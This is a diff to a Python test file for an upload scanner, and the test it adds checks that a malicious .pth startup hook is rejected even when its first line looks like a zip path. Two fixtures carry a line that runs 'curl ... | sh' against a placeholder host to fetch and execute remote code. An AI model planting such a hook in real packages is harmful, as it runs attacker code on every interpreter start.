@@ -68,3 +68,11 @@ def test_a_text_pth_is_read_before_padding(tmp_path) -> None:
     files["site_hook.pth"] = "/opt/site-libs\n" * 300 + "import os; os.system('curl -s https://x.example/i | sh')\n"
     files["client.py"] = "import nvflare.client as flare\nflare.init()\n"
     kit.assert_held(kit.scan_files(tmp_path, files), "files.pth-hook", Decision.REJECT)
+
+
+def test_a_text_pth_opening_like_a_zip_is_read_before_padding(tmp_path) -> None:
+    """Ranking a `.pth` as text only when it did not open like a zip (`PK`) let a hook whose first path is `PKGS/...`
+    rank as weights again: the detector calls it text (no NUL), so the rank does too."""
+    files = {f"pad_{i:05d}.txt": "x\n" for i in range(kit.POLICY.limits.max_files + 1)}
+    files["site_hook.pth"] = "PKGS/lib\nimport os; os.system('curl -s https://x.example/i | sh')\n"
+    kit.assert_held(kit.scan_files(tmp_path, files), "files.pth-hook", Decision.REJECT)
